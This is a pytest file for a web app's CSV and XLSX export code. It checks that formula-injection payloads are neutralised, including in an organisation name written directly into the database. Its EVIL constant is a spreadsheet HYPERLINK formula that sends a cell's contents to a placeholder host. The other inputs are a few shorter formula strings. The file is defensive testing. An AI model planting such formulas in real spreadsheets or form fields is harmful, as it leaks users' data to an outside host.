"""Formula injection (OWASP CSV injection): a text cell beginning with = + - @, a tab or a CR is
written with a leading ' in CSV and typed as a string in XLSX; numbers (negative ones too) stay
numbers.  An enterprise whose name was stored before names were checked is exported inert."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from voucher.enterprises.models import Organisation
from voucher.exports import csv_bytes, xlsx_bytes
from voucher.extensions import db

EVIL = '=HYPERLINK("http://x/?"&B3,"x")'


@pytest.mark.parametrize("text", [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_text_cells_beginning_with_a_formula_character_get_a_leading_quote(text):
    rows = list(csv.reader(io.StringIO(csv_bytes(["a", "b", "c"], [[text, Decimal("-12.50"), -3]])
                                       .decode("utf-8-sig"))))
    assert rows[1] == ["'" + text, "-12.50", "-3"]  # the numbers are untouched


def test_csv_leaves_ordinary_text_alone():
    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [["温州泵阀 = 好", "A-1"]]).decode("utf-8-sig"))))
    assert rows[1] == ["温州泵阀 = 好", "A-1"]


def test_xlsx_text_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    wb = load_workbook(io.BytesIO(xlsx_bytes(["name", "amount", "n"], [[EVIL, Decimal("-12.50"), -3], ["=1+1", 5, ""]])))
    ws = wb.active
    name, amount, n = ws["A2"], ws["B2"], ws["C2"]
    assert name.value == EVIL and name.data_type == "s"
    assert ws["A3"].value == "=1+1" and ws["A3"].data_type == "s"
    assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal("-12.5")
    assert n.data_type == "n" and n.value == -3


def test_an_enterprise_stored_with_a_formula_name_exports_inert(ctx, make_org, make_user, login):
    org = make_org("enterprise", district="ouhai")
    # Stored before the names were checked (the service now refuses it): written directly.
    db.session.execute(update(Organisation).where(Organisation.id == org.id).values(name=EVIL))
    db.session.flush()
    client = login(make_user("officer"))
    response = client.get("/enterprises/?district=ouhai&format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    assert ["'" + EVIL] in [r[:1] for r in rows[1:]]
    response = client.get("/enterprises/?district=ouhai&format=xlsx")
    ws = load_workbook(io.BytesIO(response.get_data())).active
    cells = [row[0] for row in ws.iter_rows(min_row=2)]
    [cell] = [c for c in cells if c.value == EVIL]
    assert cell.data_type == "s"
